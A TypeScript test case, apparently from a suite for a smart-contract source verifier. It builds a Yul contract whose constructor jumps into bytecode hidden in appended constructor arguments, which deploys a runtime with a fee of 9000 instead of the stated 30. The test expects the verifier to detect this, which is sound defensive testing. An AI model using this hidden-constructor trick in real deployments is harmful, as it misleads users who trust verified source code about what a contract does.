import { expect } from "vitest";
import type { Attack, Program } from "./attack.ts";
import { word } from "./attack-world.ts";

/** `end` is what the creation code does last. */
function program(end: string): Program {
  return {
    language: "Yul",
    sources: {
      "Till.yul": `object "Till" {
  code {
    datacopy(0, dataoffset("Runtime"), datasize("Runtime"))
    setimmutable(0, "fee", 30)
    ${end}
    return(0, datasize("Runtime"))
  }
  object "Runtime" { code { mstore(0, loadimmutable("fee")) return(0, 32) } }
}`,
    },
    contract: "Till.yul:Till",
  };
}

const jumping = program('if eq(codesize(), 0x0200) { verbatim_1i_0o(hex"56", 0x0100) }');
const plain = program("");

const attack: Attack = {
  title: "Yul jumps into the data behind it, which leave another fee",
  attack: async (world) => {
    const { creation, runtime, immutables } = await world.compile(jumping);
    const code = Buffer.from(runtime, "hex");
    for (const { start } of immutables["fee"] ?? [])
      Buffer.from(word(9000), "hex").copy(code, start);
    const from = 0x0100 + 12;
    const size = code.length.toString(16).padStart(2, "0");
    const hidden = `5b60${size}61${from.toString(16).padStart(4, "0")}5f3960${size}5ff3`;
    const behind = `${hidden}${code.toString("hex")}`;
    const given = `${"00".repeat(0x0100 - creation.length / 2)}${behind}`.padEnd(
      2 * 0x0200 - creation.length,
      "0",
    );
    const standing = await world.deploy(`0x${creation}${given}`);
    return world.verify(jumping, standing, { arguments: given });
  },
  honest: async (world) => {
    const { creation } = await world.compile(plain);
    return world.verify(plain, await world.deploy(`0x${creation}`));
  },
  reaches: "partial",
  reason: /Another constructor ran/,
  check: (_attacked, honest) => {
    expect(honest.proof).toMatchObject({ construction: "compared", immutables: "compared" });
  },
};

export default attack;
